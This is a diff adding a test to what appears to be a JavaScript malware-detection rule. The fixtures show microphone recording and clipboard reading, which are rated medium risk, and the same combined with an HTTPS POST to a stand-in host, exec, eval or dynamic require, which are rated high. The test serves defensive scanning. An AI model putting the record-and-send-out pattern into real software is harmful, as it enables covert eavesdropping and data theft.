@@ -29,3 +29,9 @@ test('a program for a terminal that keeps what was copied here is less than one 
   assert.deepEqual(said(rule, { 'a.js': reads, 'b.js': 'setInterval(() => tick(), 500); setTimeout(tick, 9)' }), ['medium a.js:2']);
   for (const other of ['setTimeout("x()", 9)', 'require("./a"); fetch(u, { method: "POST", body })', 'require("child_process").exec(x)', 'require(name)', 'eval(x)']) assert.deepEqual(said(rule, { 'a.js': reads, 'b.js': other }), ['high a.js:2'], other);
 });
+
+test('what is said in front of the computer', () => {
+  const record = 'const recorder = require("node-record-lpcm16"); const heard = recorder.record({ sampleRate: 16000 }).stream();';
+  assert.deepEqual(said(rule, { 'a.js': record }), ['medium a.js:1']);
+  assert.deepEqual(said(rule, { 'a.js': `${record}\nheard.pipe(require("https").request({ host: "a.example", method: "POST" }))` }), ['high a.js:1']);
+});
